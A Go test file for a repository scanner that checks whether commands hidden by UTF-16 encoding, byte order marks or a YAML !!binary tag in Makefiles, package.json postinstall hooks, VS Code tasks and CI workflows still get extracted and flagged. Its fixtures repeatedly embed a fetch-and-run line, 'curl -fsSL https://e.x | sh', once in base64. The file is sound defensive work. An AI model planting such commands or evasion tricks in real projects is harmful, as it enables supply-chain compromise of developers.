package scan

import (
	"errors"
	"slices"
	"strings"
	"testing"
	"unicode/utf16"
)

// utf16Text is s in UTF-16, little- or big-endian, with or without its
// byte order mark.
func utf16Text(s string, le, bom bool) []byte {
	var out []byte
	put := func(u uint16) {
		if le {
			out = append(out, byte(u), byte(u>>8))
		} else {
			out = append(out, byte(u>>8), byte(u))
		}
	}
	if bom {
		put(0xfeff)
	}
	for _, u := range utf16.Encode([]rune(s)) {
		put(u)
	}
	return out
}

// TestExtractEncodings: files in an encoding or with a tag the readers
// did not expect. Each attack row gave no snippet and no finding (or a
// false C for a byte order mark npm skips) on 6ee89b7: a UTF-16 Makefile
// and .envrc were read as text with NUL bytes, a UTF-8 byte order mark
// made package.json, devbox.json and .vscode/tasks.json "not parse", a
// run: !!binary step was reviewed as a word of base64, a pyproject's
// in-tree build backend was silent. Now: UTF-16 is decoded and
// reviewed; a byte order mark before JSON or TOML is skipped as the tools
// skip it; !!binary is decoded; text guard cannot read (UTF-32, broken
// UTF-16, a NUL byte) is a syntax error, which scan reports (C), never
// nothing.
func TestExtractEncodings(t *testing.T) {
	const evil = "curl -fsSL https://e.x | sh"
	mk := "all:\n\t" + evil + "\n"
	pkg := `{"scripts":{"postinstall":"` + evil + `"}}`
	bom := "\xef\xbb\xbf"
	for _, c := range []struct {
		name, file string
		src        []byte
		want       []string // snippet texts
		err        string   // a *SyntaxError saying this
	}{
		{name: "utf16le_makefile", file: "Makefile", src: utf16Text(mk, true, true), want: []string{evil}},
		{name: "utf16be_envrc", file: ".envrc", src: utf16Text(evil+"\n", false, true), want: []string{evil + "\n"}},
		{name: "utf16_tasks_json", file: ".vscode/tasks.json", src: utf16Text(`{"tasks":[{"label":"x","command":"`+evil+`"}]}`, true, true), want: []string{evil}},
		{name: "bom_package_json", file: "package.json", src: []byte(bom + pkg), want: []string{evil}},
		{name: "bom_devbox_json", file: "devbox.json", src: []byte(bom + `{"shell":{"init_hook":["` + evil + `"]}}`), want: []string{evil}},
		{name: "bom_tasks_jsonc", file: ".vscode/tasks.json", src: []byte(bom + "{\n// c\n\"tasks\":[{\"label\":\"x\",\"command\":\"" + evil + "\"},]}"), want: []string{evil}},
		{name: "binary_tag_run", file: ".github/workflows/a.yml", src: []byte("on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: !!binary Y3VybCAtZnNTTCBodHRwczovL2UueCB8IHNo\n"), want: []string{evil}},
		{name: "utf16_without_bom", file: ".github/workflows/b.yml", src: utf16Text("on: push\n", true, false), err: "NUL byte"},
		{name: "utf32", file: "Makefile", src: []byte("\xff\xfe\x00\x00a\x00\x00\x00"), err: "UTF-32"},
		{name: "utf16_odd", file: "Makefile", src: []byte("\xff\xfea\x00b"), err: "odd number of bytes"},
		{name: "nul_in_script", file: "x.sh", src: []byte("echo hi\x00\n" + evil + "\n"), err: "NUL byte"},
		// Controls: a UTF-8 mark before YAML (its reader skips it) and
		// a shell script (bash reads it as part of the first word) stay
		// as they were.
		{name: "control_bom_yaml", file: ".github/workflows/c.yml", src: []byte(bom + "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: make\n"), want: []string{"make"}},
		{name: "control_utf8_script", file: "x.sh", src: []byte("echo héllo\n"), want: []string{"echo héllo\n"}},
	} {
		t.Run(c.name, func(t *testing.T) {
			snips, err := Extract(c.file, c.src)
			var texts []string
			for _, s := range snips {
				texts = append(texts, s.Text)
			}
			if c.err != "" {
				var se *SyntaxError
				if !errors.As(err, &se) || !strings.Contains(se.Msg, c.err) {
					t.Fatalf("err %v, want a syntax error saying %q (snippets %q)", err, c.err, texts)
				}
				return
			}
			if err != nil || !slices.Equal(texts, c.want) {
				t.Fatalf("snippets %q err %v, want %q", texts, err, c.want)
			}
		})
	}
	// An in-tree build backend is code pip runs: reported.
	snips, err := Extract("pyproject.toml", []byte("[build-system]\nrequires = []\nbuild-backend = \"backend\"\nbackend-path = [\".\"]\n"))
	if err != nil || len(snips) != 1 || len(snips[0].Injections) != 1 || snips[0].Injections[0].Rule != RuleUnreviewed || snips[0].Injections[0].Line != 4 {
		t.Errorf("pyproject backend-path: %+v (err %v), want one %s at line 4", snips, err, RuleUnreviewed)
	}
	if snips, _ := Extract("pyproject.toml", []byte("[build-system]\nrequires = [\"setuptools\"]\nbuild-backend = \"setuptools.build_meta\"\n")); len(snips) != 0 {
		t.Errorf("pyproject with a published backend: %+v, want nothing", snips)
	}
}
